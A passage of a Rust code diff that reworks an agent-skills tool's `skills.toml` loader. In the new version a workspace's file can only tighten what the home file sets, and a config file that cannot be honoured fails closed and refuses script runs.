@@ -1,17 +1,33 @@
 //! The configuration files (02 §Configuration): `~/<app_dir>/skills.toml`, then
-//! `<workspace>/<app_dir>/skills.toml` when the workspace is trusted, layered onto the
+//! `<workspace>/<app_dir>/skills.toml` when the workspace is trusted, applied to the
 //! `SkillsConfig` the caller built.
 //!
-//! Layering: `paths` and `[permissions]` rules append (rules from later layers win, as the last
-//! matching rule does), `disabled` names accumulate, and `[catalog] budget_chars` is replaced.
-//! A malformed key is an `invalid-config` diagnostic and is ignored; it never fails discovery.
+//! One rule (issue 29 §2): the home decides, a workspace can only tighten. Every key is looked
+//! up in [`skills_types::settings::KEYS`] before its value is read, and the row says where the
+//! key may be set and which way a workspace's value may move it; no check beside the table
+//! decides that. The caller's configuration counts with the home. A workspace's
+//! `[permissions]` rules are kept apart from the home's, so each file's verdict is its own last
+//! matching rule and the stricter of the two applies ([`Layered::verdict`]); the folders and
+//! packs a workspace names are project-scope sources ([`Sources`]), never user roots, so their
+//! skills are trust-gated and every run of them needs confirmation.
+//!
+//! A file that exists but cannot be honoured (no permission, a FIFO, a folder, a link to
+//! nowhere, too large, not UTF-8, not TOML), and a policy key whose value means nothing, fail
+//! closed: an error diagnostic, every skill's verdict at least `ask`, and
+//! [`Layered::refusal`], which refuses runs, tools and self-tests with `config_invalid`. A
+//! default never stands in for a rule the user wrote: a `deny` in an unreadable file would
+//! otherwise stop applying the moment a script took the file's read permission away. Other
+//! malformed keys are warnings, and the rest of the file still applies.
 
 use std::path::{Path, PathBuf};
 
 use skills_types::config::{Permission, PermissionRule};
 use skills_types::install::{AgentTarget, RegistryKind};
 use skills_types::runtime::{ConfirmMode, NetworkMode, RuntimeConfig, SandboxMode, Strictness};
-use skills_types::{Diagnostic, DiagnosticCode, SkillsConfig};
+use skills_types::settings::{self as keys, Key, OnInvalid, Place};
+use skills_types::{Diagnostic, DiagnosticCode, Error, SkillsConfig};
+
+use super::permission;
 
 /// The configuration file's name inside an app directory.
 pub const CONFIG_FILE: &str = "skills.toml";
@@ -19,349 +35,518 @@ pub const CONFIG_FILE: &str = "skills.toml";
 /// Largest configuration file read.
 const MAX_CONFIG_BYTES: u64 = 1024 * 1024;
 
-/// The keys that hold a value at the top of the file, before any `[table]` header. TOML puts
-/// every key written after a header into that table, so `disabled = [...]` placed below
-/// `[permissions]` becomes a permission rule for a skill named "disabled"; the message for a
-/// key of this list found inside a table says where it belongs.
-const TOP_LEVEL_KEYS: [&str; 3] = ["paths", "urls", "disabled"];
-
-/// The end of a message about `key` found inside `[table]`: a hint to move it up when it is a
-/// top-level key, nothing otherwise.
-fn misplaced(table: &str, key: &str) -> String {
-    if TOP_LEVEL_KEYS.contains(&key) {
-        format!(
-            "; '{key}' is a top-level key: move it above the [{table}] header (every key after a header belongs to that table)"
-        )
-    } else {
-        String::new()
-    }
+/// Whose file is being applied.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Layer {
+    /// The user's own, `~/<app_dir>/skills.toml`.
+    Home,
+    /// A trusted workspace's, which ships with a repository.
+    Workspace,
 }
 
-/// The effective configuration: `config` with the files layered on, and what was wrong with
-/// them.
-pub(crate) fn effective(config: &SkillsConfig, trusted: bool) -> (SkillsConfig, Vec<Diagnostic>) {
-    let mut merged = config.clone();
-    let mut diagnostics = Vec::new();
-    if !config.read_config_files {
-        return (merged, diagnostics);
-    }
-    let mut layers = vec![config.home.clone()];
-    if trusted {
-        layers.push(config.workspace.clone());
-    }
-    for base in layers {
-        let file = base.join(&config.app_dir).join(CONFIG_FILE);
-        apply_file(&file, &base, &config.home, &mut merged, &mut diagnostics);
-    }
-    (merged, diagnostics)
+/// One configuration file being applied.
+struct File<'a> {
+    path: &'a Path,
+    /// The folder holding the app directory: relative `paths` resolve against it.
+    base: &'a Path,
+    home: &'a Path,
+    layer: Layer,
 }
 
-fn apply_file(
-    file: &Path,
-    base: &Path,
-    home: &Path,
-    config: &mut SkillsConfig,
-    diagnostics: &mut Vec<Diagnostic>,
-) {
-    let mut problem = |message: String| {
-        diagnostics
-            .push(Diagnostic::warning(DiagnosticCode::InvalidConfig, message).with_path(file));
-    };
-    let text = match read_small(file) {
-        Ok(Some(text)) => text,
-        Ok(None) => return,
-        Err(message) => return problem(message),
-    };
-    let table: toml::Table = match text.parse() {
-        Ok(table) => table,
-        Err(error) => return problem(format!("not valid TOML: {}", error.message())),
-    };
-    for (key, value) in &table {
-        match key.as_str() {
-            "paths" => match strings(value) {
-                Some(paths) => config
-                    .extra_roots
-                    .extend(paths.iter().map(|path| resolve(path, base, home))),
-                None => problem("'paths' must be a list of strings".to_owned()),
-            },
-            "urls" => match strings(value) {
-                Some(urls) => config.urls.extend(urls),
-                None => problem("'urls' must be a list of strings".to_owned()),
-            },
-            "disabled" => match strings(value) {
-                Some(names) => config.disabled.extend(names),
-                None => problem("'disabled' must be a list of skill names".to_owned()),
-            },
-            "permissions" => match value.as_table() {
-                Some(rules) => {
-                    for (pattern, permission) in rules {
-                        match permission.as_str().and_then(parse_permission) {
-                            Some(permission) => config.permissions.push(PermissionRule {
-                                pattern: pattern.clone(),
-                                permission,
-                            }),
-                            None => problem(format!(
-                                "permission for '{pattern}' must be \"allow\", \"ask\" or \"deny\"{}",
-                                misplaced("permissions", pattern)
-                            )),
-                        }
-                    }
-                }
-                None => problem("'permissions' must be a table of pattern = permission".to_owned()),
-            },
-            "catalog" => match value.as_table() {
-                Some(catalog) => {
-                    for (key, value) in catalog {
-                        match (
-                            key.as_str(),
-                            value.as_integer().and_then(|n| usize::try_from(n).ok()),
-                        ) {
-                            ("budget_chars", Some(budget)) => config.budget_chars = Some(budget),
-                            ("budget_chars", None) => problem(
-                                "'catalog.budget_chars' must be a positive number".to_owned(),
-                            ),
-                            (other, _) => problem(format!(
-                                "unknown key 'catalog.{other}'{}",
-                                misplaced("catalog", other)
-                            )),
-                        }
-                    }
-                }
-                None => problem("'catalog' must be a table".to_owned()),
-            },
-            // What the agent is told to run is the user's choice: a cloned repository that
-            // set it could make every `AGENTS.md` it syncs tell the agent to run its script.
-            "sync" if base != home => problem(
-                "[sync] is read only from the home skills.toml: a workspace may not set what \
-                 the agent is told to run"
-                    .to_owned(),
-            ),
-            "sync" => match value.as_table() {
-                Some(sync) => {
-                    for (key, value) in sync {
-                        match (key.as_str(), value.as_str()) {
-                            ("read_command", Some(command)) if is_command(command) => {
-                                config.read_command = Some(command.to_owned());
-                            }
-                            ("read_command", _) => problem(
-                                "'sync.read_command' must be one word of letters, digits and \
-                                 . _ - + / ~ (a program name or path)"
-                                    .to_owned(),
-                            ),
-                            (other, _) => problem(format!(
-                                "unknown key 'sync.{other}'{}",
-                                misplaced("sync", other)
-                            )),
-                        }
-                    }
-                }
-                None => problem("'sync' must be a table".to_owned()),
-            },
-            // Where the user's new skills are written is the user's choice: a cloned
-            // repository that set it could steer installs into a root it ships or reads.
-            "install" if base != home => problem(
-                "[install] is read only from the home skills.toml: a workspace may not choose \
-                 where skills are written"
-                    .to_owned(),
-            ),
-            "install" => match value.as_table() {
-                Some(install) => {
-                    for (key, value) in install {
-                        match (key.as_str(), value.as_str().and_then(install_root)) {
-                            ("root", Some(root)) => config.install_root = Some(root),
-                            ("root", None) => problem(
-                                "'install.root' must be \"agents\" (.agents/skills), \"app\" \
-                                 (<app_dir>/skills) or \"claude\" (.claude/skills)"
-                                    .to_owned(),
-                            ),
-                            (other, _) => problem(format!(
-                                "unknown key 'install.{other}'{}",
-                                misplaced("install", other)
-                            )),
-                        }
-                    }
-                }
-                None => problem("'install' must be a table".to_owned()),
-            },
-            // Which servers skills are fetched from, and with whose token, is the user's
-            // choice: a cloned repository that set them could point installs at its own
-            // server or collect the user's token.
-            "registry" | "github" if base != home => problem(format!(
-                "[{key}] is read only from the home skills.toml: a workspace may not choose \
-                 where skills are fetched from"
-            )),
-            "runtime" => match value.as_table() {
-                Some(table) => runtime(table, base != home, &mut config.runtime, &mut problem),
-                None => problem("'runtime' must be a table".to_owned()),
-            },
-            "registry" => match value.as_table() {
-                Some(table) => registry(table, config, &mut problem),
-                None => problem("'registry' must be a table".to_owned()),
-            },
-            "github" => match value.as_table() {
-                Some(table) => {
-                    for (key, value) in table {
-                        match (key.as_str(), value.as_str()) {
-                            ("url", Some(url)) => {
-                                // What the caller set (the CLI's SKILLS_GITHUB_URL) wins.
-                                config.github.url.get_or_insert_with(|| url.to_owned());
-                            }
-                            ("url", None) => problem("'github.url' must be a string".to_owned()),
-                            (other, _) => problem(format!(
-                                "unknown key 'github.{other}'{}",
-                                misplaced("github", other)
-                            )),
-                        }
-                    }
-                }
-                None => problem("'github' must be a table".to_owned()),
-            },
-            other => problem(format!("unknown key '{other}'")),
+/// The sources of skills a trusted workspace's file names: project scope, since a repository
+/// chose them, not the user.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub(crate) struct Sources {
+    /// Its `paths`, resolved.
+    pub(crate) paths: Vec<PathBuf>,
+    /// Its `urls`, as written (less any the home also lists).
+    pub(crate) urls: Vec<String>,
+}
+
+/// The configuration files applied to the caller's configuration, and what they could not say.
+#[derive(Clone, Debug)]
+pub(crate) struct Layered {
+    /// The caller's configuration with the home file applied, and what a workspace's file may
+    /// change in it (`[runtime]` tightened, names added to `disabled`, `budget_chars`).
+    pub(crate) config: SkillsConfig,
+    /// A trusted workspace's `[permissions]` rules: their verdict is combined with the home's
+    /// (the caller's and the home file's rules), never appended to them.
+    pub(crate) workspace_rules: Vec<PermissionRule>,
+    /// The sources of skills a trusted workspace names.
+    pub(crate) project: Sources,
+    /// What was wrong with the files.
+    pub(crate) diagnostics: Vec<Diagnostic>,
+    /// Each file that cannot be honoured and why: runs are refused while there is one.
+    pub(crate) invalid: Vec<(PathBuf, String)>,
+}
+
+impl Layered {
+    /// The verdict for the skill `name`: the stricter of the home's and the workspace's, each
+    /// its own file's last matching rule (deny > ask > allow), and at least `ask` while a file
+    /// cannot be honoured, since a rule it holds is unknown. The pattern of the rule that
+    /// decided comes with it, when one did.
+    pub(crate) fn verdict(&self, name: &str) -> (Permission, Option<&str>) {
+        let home = permission::decide(&self.config.permissions, name);
+        let workspace = permission::decide(&self.workspace_rules, name);
+        let verdict = if workspace.0.rank() > home.0.rank() {
+            workspace
+        } else {
+            home
+        };
+        if self.invalid.is_empty() || verdict.0.tightens(Permission::Ask) {
+            verdict
+        } else {
+            (Permission::Ask, None)
         }
     }
-}
 
-/// The `[runtime]` table onto `runtime`. From the home file every key applies; from a
-/// workspace's file only what tightens the setting in force does, and each key that would
-/// loosen it is said and ignored (a cloned repository ships that file).
-fn runtime(
-    table: &toml::Table,
-    workspace: bool,
-    runtime: &mut RuntimeConfig,
-    problem: &mut impl FnMut(String),
-) {
-    let loosens = |key: &str| {
-        format!(
-            "[runtime] {key} in a workspace's skills.toml would loosen the home setting and is \
-             ignored: a workspace may only tighten how scripts run"
-        )
-    };
-    for (key, value) in table {
-        let text = value.as_str();
-        match key.as_str() {
-            "sandbox" => match text.and_then(sandbox_mode) {
-                Some(mode) if !workspace || mode.tightens(runtime.sandbox) => {
-                    runtime.sandbox = mode
-                }
-                Some(_) => problem(loosens(key)),
-                None => problem(
-                    "'runtime.sandbox' must be \"workspace-write\", \"read-only\" or \"off\""
-                        .to_owned(),
-                ),
-            },
-            "network" => match text.and_then(network_mode) {
-                Some(mode) if !workspace || mode.tightens(runtime.network) => {
-                    runtime.network = mode
-                }
-                Some(_) => problem(loosens(key)),
-                None => problem("'runtime.network' must be \"deny\" or \"allow\"".to_owned()),
-            },
-            "confirm" => match text.and_then(confirm_mode) {
-                Some(mode) if !workspace || mode.tightens(runtime.confirm) => {
-                    runtime.confirm = mode
-                }
-                Some(_) => problem(loosens(key)),
-                None => {
-                    problem("'runtime.confirm' must be \"ask\", \"always\" or \"never\"".to_owned())
-                }
-            },
-            "allow_inline" | "allow_install_scripts" => {
-                let field = if key == "allow_inline" {
-                    &mut runtime.allow_inline
-                } else {
-                    &mut runtime.allow_install_scripts
-                };
-                match value.as_bool() {
-                    // Turning a permission off always tightens.
-                    Some(allowed) if !workspace || !allowed || *field => *field = allowed,
-                    Some(_) => problem(loosens(key)),
-                    None => problem(format!("'runtime.{key}' must be true or false")),
-                }
+    /// Why runs, tools and self-tests must be refused (`config_invalid`, naming the first file
+    /// that cannot be honoured and everything wrong with it), or `None`.
+    pub(crate) fn refusal(&self) -> Option<Error> {
+        let (path, _) = self.invalid.first()?;
+        let reasons: Vec<&str> = self
+            .invalid
+            .iter()
+            .filter(|(file, _)| file == path)
+            .map(|(_, reason)| reason.as_str())
+            .collect();
+        let mut reason = reasons.join("; ");
+        if let Some((other, _)) = self.invalid.iter().find(|(file, _)| file != path) {
+            reason.push_str(&format!(
+                " (and {} cannot be honoured either)",
+                other.display()
+            ));
+        }
+        Some(Error::ConfigInvalid {
+            path: path.clone(),
+            reason,
+        })
+    }
+
+    /// Applies one file, when it exists.
+    fn apply_file(&mut self, file: &File<'_>) {
+        let text = match read_config(file.path) {
+            Read::Absent => return,
+            Read::Text(text) => text,
+            Read::Broken(reason) => return self.report(file, OnInvalid::Refuse, reason),
+        };
+        let table: toml::Table = match text.parse() {
+            Ok(table) => table,
+            Err(error) => {
+                let line = error
+                    .span()
+                    .map(|span| format!(" at line {}", line_of(&text, span.start)))
+                    .unwrap_or_default();
+                return self.report(
+                    file,
+                    OnInvalid::Refuse,
+                    format!(
+                        "it is not valid TOML{line} ({}); correct it",
+                        error.message().trim()
+                    ),
+                );
             }
-            "pass_env" => match strings(value) {
-                Some(names) if names.iter().all(|name| is_variable(name)) => {
-                    if workspace {
-                        // Fewer variables tighten; a name the home file does not pass loosens.
-                        if names.iter().any(|name| !runtime.pass_env.contains(name)) {
-                            problem(loosens(key));
-                        }
-                        runtime.pass_env.retain(|name| names.contains(name));
-                    } else {
-                        runtime.pass_env = names;
+        };
+        for (name, value) in &table {
+            if !keys::is_table(name) {
+                self.apply_key(file, None, name, value);
+                continue;
+            }
+            match value.as_table() {
+                Some(entries) => {
+                    for (entry, value) in entries {
+                        self.apply_key(file, Some(name), entry, value);
                     }
                 }
-                _ => problem(
-                    "'runtime.pass_env' must be a list of environment variable names".to_owned(),
+                None => self.report(
+                    file,
+                    keys::unknown_in(Some(name)),
+                    format!("'{name}' must be a table ([{name}])"),
                 ),
-            },
-            // Which program runs a skill's code is never a workspace's choice; nor is the
-            // sandbox's helper, which runs unconfined before it confines anything.
-            "node" | "npm" | "python" | "sh" | "managed_node" | "node_dist" | "sandbox_helper"
-                if workspace =>
-            {
-                problem(format!(
-                    "[runtime] {key} is read only from the home skills.toml: a workspace may not \
-                     choose the program that runs scripts"
-                ))
             }
-            "sandbox_helper" => match text.filter(|path| Path::new(path).is_absolute()) {
-                Some(path) => runtime.sandbox_helper = Some(PathBuf::from(path)),
-                None => problem(
-                    "'runtime.sandbox_helper' must be an absolute path to a program whose main \
-                     calls skills::run::sandbox_main() first (the skills binary does)"
-                        .to_owned(),
+        }
+    }
+
+    /// Applies one key as its row of the table says.
+    fn apply_key(&mut self, file: &File<'_>, table: Option<&str>, name: &str, value: &toml::Value) {
+        let Some(row) = keys::key(table, name) else {
+            let dotted = table.map_or_else(|| name.to_owned(), |table| format!("{table}.{name}"));
+            return self.report(
+                file,
+                keys::unknown_in(table),
+                format!("unknown key '{dotted}'{}", misplaced(table, name)),
+            );
+        };
+        if file.layer == Layer::Workspace && row.place == Place::Home {
+            return self.ignored(file, row, name, "is read only from the home skills.toml");
+        }
+        match self.assign(row, name, value, file) {
+            Ok(Taken::All) => {}
+            Ok(Taken::OnlyWhatTightens) => self.ignored(
+                file,
+                row,
+                name,
+                "would loosen what the home skills.toml sets, and a workspace may only tighten it",
+            ),
+            Err(message) => {
+                self.report(
+                    file,
+                    row.invalid,
+                    format!("{message}{}", misplaced(table, name)),
+                );
+            }
+        }
+    }
+
+    /// A key of a workspace's file that is not taken (or not all of it).
+    fn ignored(&mut self, file: &File<'_>, row: &Key, name: &str, why: &str) {
+        self.diagnostics.push(
+            Diagnostic::warning(
+                DiagnosticCode::InvalidConfig,
+                format!(
+                    "{} in the workspace's {} is ignored: it {why}; {}",
+                    row.shown(name),
+                    file.path.display(),
+                    row.rule
                 ),
-            },
-            "node" | "npm" | "python" | "sh" => match text.filter(|path| !path.trim().is_empty()) {
-                Some(path) => {
-                    let path = Some(PathBuf::from(path));
-                    match key.as_str() {
-                        "node" => runtime.node = path,
-                        "npm" => runtime.npm = path,
-                        "python" => runtime.python = path,
-                        _ => runtime.sh = path,
-                    }
+            )
+            .with_path(file.path),
+        );
+    }
+
+    /// A problem with `file`: a warning, or, when it leaves a rule of the user's unknown, an
+    /// error that refuses runs until it is fixed.
+    fn report(&mut self, file: &File<'_>, invalid: OnInvalid, message: String) {
+        let diagnostic = match invalid {
+            OnInvalid::Refuse => {
+                self.invalid
+                    .push((file.path.to_path_buf(), message.clone()));
+                Diagnostic::error(
+                    DiagnosticCode::InvalidConfig,
+                    format!(
+                        "{message}; runs, tools and self-tests are refused (config_invalid) until the file is fixed"
+                    ),
+                )
+            }
+            _ => Diagnostic::warning(DiagnosticCode::InvalidConfig, message),
+        };
+        self.diagnostics.push(diagnostic.with_path(file.path));
+    }
+
+    /// Reads `value` as the key `row` (`name` is the key as written) and applies it; the
+    /// direction of a workspace's value is the row's.
+    fn assign(
+        &mut self,
+        row: &Key,
+        name: &str,
+        value: &toml::Value,
+        file: &File<'_>,
+    ) -> Result<Taken, String> {
+        let workspace = file.layer == Layer::Workspace;
+        let config = &mut self.config;
+        match (row.table, row.name) {
+            (None, "paths") => {
+                let paths = strings(value).ok_or("'paths' must be a list of strings")?;
+                let resolved = paths.iter().map(|path| resolve(path, file.base, file.home));
+                own(workspace, &mut self.project.paths, &mut config.extra_roots).extend(resolved);
+            }
+            (None, "urls") => {
+                let urls = strings(value).ok_or("'urls' must be a list of strings")?;
+                own(workspace, &mut self.project.urls, &mut config.urls).extend(urls);
+            }
+            (None, "disabled") => {
+                let names = strings(value).ok_or("'disabled' must be a list of skill names")?;
+                config.disabled.extend(names);
+            }
+            (Some("permissions"), _) => {
+                let rules = own(
+                    workspace,
+                    &mut self.workspace_rules,
+                    &mut config.permissions,
+                );
+                let permission = value.as_str().and_then(parse_permission);
+                rules.push(PermissionRule {
+                    pattern: name.to_owned(),
+                    // A verdict that cannot be read is the strictest, so nothing the rule was
+                    // meant to keep out is listed while the file is fixed.
+                    permission: permission.unwrap_or(Permission::Deny),
+                });
+                if permission.is_none() {
+                    return Err(format!(
+                        "permission for '{name}' must be \"allow\", \"ask\" or \"deny\" (until it is, the rule counts as \"deny\")"
+                    ));
                 }
-                None => problem(format!("'runtime.{key}' must be a path")),
-            },
-            "managed_node" => match text.filter(|major| {
-                !major.is_empty() && major.len() <= 8 && major.bytes().all(|b| b.is_ascii_digit())
-            }) {
-                Some(major) => runtime.managed_node = Some(major.to_owned()),
-                None => problem(
-                    "'runtime.managed_node' must be a Node major version such as \"22\"".to_owned(),
-                ),
-            },
-            // Checked as a URL when managed Node is fetched, by the URL policy every download
-            // passes.
-            "node_dist" => match text.filter(|base| !base.trim().is_empty()) {
-                Some(base) => runtime.node_dist = Some(base.trim().to_owned()),
-                None => problem(
-                    "'runtime.node_dist' must be a URL such as \"https://nodejs.org/dist\""
-                        .to_owned(),
-                ),
-            },
-            "max_concurrent_runs" | "max_runs_per_minute" => {
-                let field = if key == "max_concurrent_runs" {
-                    &mut runtime.max_concurrent_runs
-                } else {
-                    &mut runtime.max_runs_per_minute
-                };
-                match value
+            }
+            (Some("catalog"), "budget_chars") => {
+                let budget = value
                     .as_integer()
                     .and_then(|n| usize::try_from(n).ok())
-                    .filter(|n| (1..=10_000).contains(n))
-                {
-                    Some(limit) if !workspace || limit <= *field => *field = limit,
-                    Some(_) => problem(loosens(key)),
-                    None => problem(format!("'runtime.{key}' must be a number from 1 to 10000")),
-                }
+                    .ok_or("'catalog.budget_chars' must be a positive number")?;
+                config.budget_chars = Some(budget);
             }
-            other => problem(format!(
-                "unknown key 'runtime.{other}'{}",
-                misplaced("runtime", other)
-            )),
+            (Some("sync"), "read_command") => match value.as_str() {
+                Some(command) if is_command(command) => {
+                    config.read_command = Some(command.to_owned());
+                }
+                _ => {
+                    return Err(
+                        "'sync.read_command' must be one word of letters, digits and \
+                                . _ - + / ~ (a program name or path)"
+                            .to_owned(),
+                    );
+                }
+            },
+            (Some("install"), "root") => {
+                let root = value.as_str().and_then(install_root).ok_or(
+                    "'install.root' must be \"agents\" (.agents/skills), \"app\" \
+                     (<app_dir>/skills) or \"claude\" (.claude/skills)",
+                )?;
+                config.install_root = Some(root);
+            }
+            (Some("registry"), key) => registry(key, value, config)?,
+            (Some("github"), "url") => {
+                let url = value.as_str().ok_or("'github.url' must be a string")?;
+                // What the caller set (the CLI's SKILLS_GITHUB_URL) wins.
+                config.github.url.get_or_insert_with(|| url.to_owned());
+            }
+            (Some("runtime"), key) => return runtime(key, value, workspace, &mut config.runtime),
+            _ => return Err(no_reader(row)),
         }
+        Ok(Taken::All)
+    }
+}
+
+/// Where a file's entries of a list go: `kept_apart` for a workspace's (its permission rules
+/// and sources, which never join the home's), `home` for the home's.
+fn own<'a, T>(workspace: bool, kept_apart: &'a mut T, home: &'a mut T) -> &'a mut T {
+    if workspace { kept_apart } else { home }
+}
+
+/// How much of a workspace's value was taken.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Taken {
+    /// All of it (and every value of the home file).
+    All,
+    /// Only what does not loosen the home's setting, which may be nothing.
+    OnlyWhatTightens,
+}
+
+/// The effective configuration: `config` with its files applied (the workspace's only when
+/// `trusted`), and what was wrong with them.
+pub(crate) fn effective(config: &SkillsConfig, trusted: bool) -> Layered {
+    let mut layered = Layered {
+        config: config.clone(),
+        workspace_rules: Vec::new(),
+        project: Sources::default(),
+        diagnostics: Vec::new(),
+        invalid: Vec::new(),
+    };
+    if !config.read_config_files {
+        return layered;
+    }
+    let home_file = config.home.join(&config.app_dir).join(CONFIG_FILE);
+    layered.apply_file(&File {
+        path: &home_file,
+        base: &config.home,
+        home: &config.home,
+        layer: Layer::Home,
+    });
+    let workspace_file = config.workspace.join(&config.app_dir).join(CONFIG_FILE);
+    // A workspace that is the home folder has the home's file: it is the user's, read once.
+    if trusted && !same_file(&home_file, &workspace_file) {
+        layered.apply_file(&File {
+            path: &workspace_file,
+            base: &config.workspace,
+            home: &config.home,
+            layer: Layer::Workspace,
+        });
+    }
+    // A folder or pack the home names stays the home's: user (or remote) scope, listed once.
+    let Layered {
+        config: merged,
+        project,
+        ..
+    } = &mut layered;
+    project
+        .paths
+        .retain(|path| !merged.extra_roots.contains(path));
+    project
+        .urls
+        .retain(|url| !merged.urls.iter().any(|home| home.trim() == url.trim()));
+    layered
+}
+
+/// Whether two paths name one file (both resolved), or are written alike.
+fn same_file(a: &Path, b: &Path) -> bool {
+    if a == b {
+        return true;
+    }
+    match (std::fs::canonicalize(a), std::fs::canonicalize(b)) {
+        (Ok(a), Ok(b)) => a == b,
+        _ => std::path::absolute(a).ok() == std::path::absolute(b).ok(),
+    }
+}
+
+/// The `[runtime]` key `key` onto `runtime`. From the home file every valid value applies; from
+/// a workspace's, only what tightens the setting in force.
+fn runtime(
+    key: &str,
+    value: &toml::Value,
+    workspace: bool,
+    runtime: &mut RuntimeConfig,
+) -> Result<Taken, String> {
+    let text = value.as_str();
+    let taken = match key {
+        "sandbox" => stricter(
+            &mut runtime.sandbox,
+            text.and_then(sandbox_mode)
+                .ok_or("'runtime.sandbox' must be \"workspace-write\", \"read-only\" or \"off\"")?,
+            workspace,
+        ),
+        "network" => stricter(
+            &mut runtime.network,
+            text.and_then(network_mode)
+                .ok_or("'runtime.network' must be \"deny\" or \"allow\"")?,
+            workspace,
+        ),
+        "confirm" => stricter(
+            &mut runtime.confirm,
+            text.and_then(confirm_mode)
+                .ok_or("'runtime.confirm' must be \"ask\", \"always\" or \"never\"")?,
+            workspace,
+        ),
+        "allow_inline" | "allow_install_scripts" => {
+            let allowed = value
+                .as_bool()
+                .ok_or_else(|| format!("'runtime.{key}' must be true or false"))?;
+            let field = if key == "allow_inline" {
+                &mut runtime.allow_inline
+            } else {
+                &mut runtime.allow_install_scripts
+            };
+            // Turning a permission off always tightens.
+            if !workspace || !allowed || *field {
+                *field = allowed;
+                Taken::All
+            } else {
+                Taken::OnlyWhatTightens
+            }
+        }
+        "pass_env" => {
+            let names = strings(value)
+                .filter(|names| names.iter().all(|name| is_variable(name)))
+                .ok_or("'runtime.pass_env' must be a list of environment variable names")?;
+            if workspace {
+                // Fewer variables tighten; a name the home does not pass would loosen.
+                let loosens = names.iter().any(|name| !runtime.pass_env.contains(name));
+                runtime.pass_env.retain(|name| names.contains(name));
+                if loosens {
+                    Taken::OnlyWhatTightens
+                } else {
+                    Taken::All
+                }
+            } else {
+                runtime.pass_env = names;
+                Taken::All
+            }
+        }
+        "max_concurrent_runs" | "max_runs_per_minute" => {
+            let limit = value
+                .as_integer()
+                .and_then(|n| usize::try_from(n).ok())
+                .filter(|n| (1..=10_000).contains(n))
+                .ok_or_else(|| format!("'runtime.{key}' must be a number from 1 to 10000"))?;
+            let field = if key == "max_concurrent_runs" {
+                &mut runtime.max_concurrent_runs
+            } else {
+                &mut runtime.max_runs_per_minute
+            };
+            if !workspace || limit <= *field {
+                *field = limit;
+                Taken::All
+            } else {
+                Taken::OnlyWhatTightens
+            }
+        }
+        // The keys below are the home's alone (the table says so, and a workspace's value
+        // never reaches here).
+        "sandbox_helper" => {
+            let path = text.filter(|path| Path::new(path).is_absolute()).ok_or(
+                "'runtime.sandbox_helper' must be an absolute path to a program whose main \
+                 calls skills::run::sandbox_main() first (the skills binary does)",
+            )?;
+            runtime.sandbox_helper = Some(PathBuf::from(path));
+            Taken::All
+        }
+        "node" | "npm" | "python" | "sh" => {
+            let path = text
+                .filter(|path| !path.trim().is_empty())
+                .map(PathBuf::from)
+                .ok_or_else(|| format!("'runtime.{key}' must be a path"))?;
+            let field = match key {
+                "node" => &mut runtime.node,
+                "npm" => &mut runtime.npm,
+                "python" => &mut runtime.python,
+                _ => &mut runtime.sh,
+            };
+            *field = Some(path);
+            Taken::All
+        }
+        "managed_node" => {
+            let major = text
+                .filter(|major| {
+                    !major.is_empty()
+                        && major.len() <= 8
+                        && major.bytes().all(|b| b.is_ascii_digit())
+                })
+                .ok_or("'runtime.managed_node' must be a Node major version such as \"22\"")?;
+            runtime.managed_node = Some(major.to_owned());
+            Taken::All
+        }
+        // Checked as a URL when managed Node is fetched, by the URL policy every download
+        // passes.
+        "node_dist" => {
+            let base = text
+                .map(str::trim)
+                .filter(|base| !base.is_empty())
+                .ok_or("'runtime.node_dist' must be a URL such as \"https://nodejs.org/dist\"")?;
+            runtime.node_dist = Some(base.to_owned());
+            Taken::All
+        }
+        _ => return Err(format!("'runtime.{key}' has no reader; this is a bug")),
+    };
+    Ok(taken)
+}
+
+/// `value` into `field` when it comes from the home, or from a workspace and is at least as
+/// strict as what is in force.
+fn stricter<T: Strictness>(field: &mut T, value: T, workspace: bool) -> Taken {
+    if !workspace || value.tightens(*field) {
+        *field = value;
+        Taken::All
+    } else {
+        Taken::OnlyWhatTightens
+    }
+}
+
+/// The message of a row the parser has no reader for (a test proves there is none).
+fn no_reader(row: &Key) -> String {
+    format!(
+        "'{}' has no reader in this version; this is a bug",
+        row.shown(row.name)
+    )
+}
+
+/// The end of a message about `key` found inside `[table]`: a hint to move it up when it is a
+/// top-level key, nothing otherwise. TOML puts every key written after a header into that
+/// table, so `disabled = [...]` placed below `[permissions]` becomes a permission rule for a
+/// skill named "disabled".
+fn misplaced(table: Option<&str>, key: &str) -> String {
+    match table {
+        Some(table) if keys::key(None, key).is_some() => format!(
+            "; '{key}' is a top-level key: move it above the [{table}] header (every key after a header belongs to that table)"
+        ),
+        _ => String::new(),
     }
 }
 
@@ -391,55 +576,53 @@ fn confirm_mode(text: &str) -> Option<ConfirmMode> {
     }
 }
 
-/// The `[registry]` table onto `config.registry`.
-fn registry(table: &toml::Table, config: &mut SkillsConfig, problem: &mut impl FnMut(String)) {
+/// The `[registry]` key `key` onto `config.registry`.
+fn registry(key: &str, value: &toml::Value, config: &mut SkillsConfig) -> Result<(), String> {
     let registry = &mut config.registry;
-    for (key, value) in table {
-        let number = value
-            .as_integer()
-            .and_then(|n| u64::try_from(n).ok())
-            .filter(|n| *n > 0);
-        match (key.as_str(), value.as_str()) {
-            ("kind", Some("catalog")) => registry.kind = RegistryKind::Catalog,
-            ("kind", Some("clawhub")) => registry.kind = RegistryKind::Clawhub,
-            ("kind", Some("skillhub")) => registry.kind = RegistryKind::Skillhub,
-            ("kind", _) => problem(
+    let number = value
+        .as_integer()
+        .and_then(|n| u64::try_from(n).ok())
+        .filter(|n| *n > 0);
+    match (key, value.as_str()) {
+        ("kind", Some("catalog")) => registry.kind = RegistryKind::Catalog,
+        ("kind", Some("clawhub")) => registry.kind = RegistryKind::Clawhub,
+        ("kind", Some("skillhub")) => registry.kind = RegistryKind::Skillhub,
+        ("kind", _) => {
+            return Err(
                 "'registry.kind' must be \"catalog\", \"clawhub\" or \"skillhub\"".to_owned(),
-            ),
-            // What the caller set (the CLI's environment variables) wins over the file.
-            ("url", Some(url)) => {
-                registry.catalog_url.get_or_insert_with(|| url.to_owned());
-            }
-            ("download_base_url", Some(url)) => {
-                registry
-                    .download_base_url
-                    .get_or_insert_with(|| url.to_owned());
-            }
-            ("token_env", Some(name)) if is_variable(name) => {
-                registry.token_env = Some(name.to_owned());
-            }
-            ("token_env", _) => problem(
+            );
+        }
+        // What the caller set (the CLI's environment variables) wins over the file.
+        ("url", Some(url)) => {
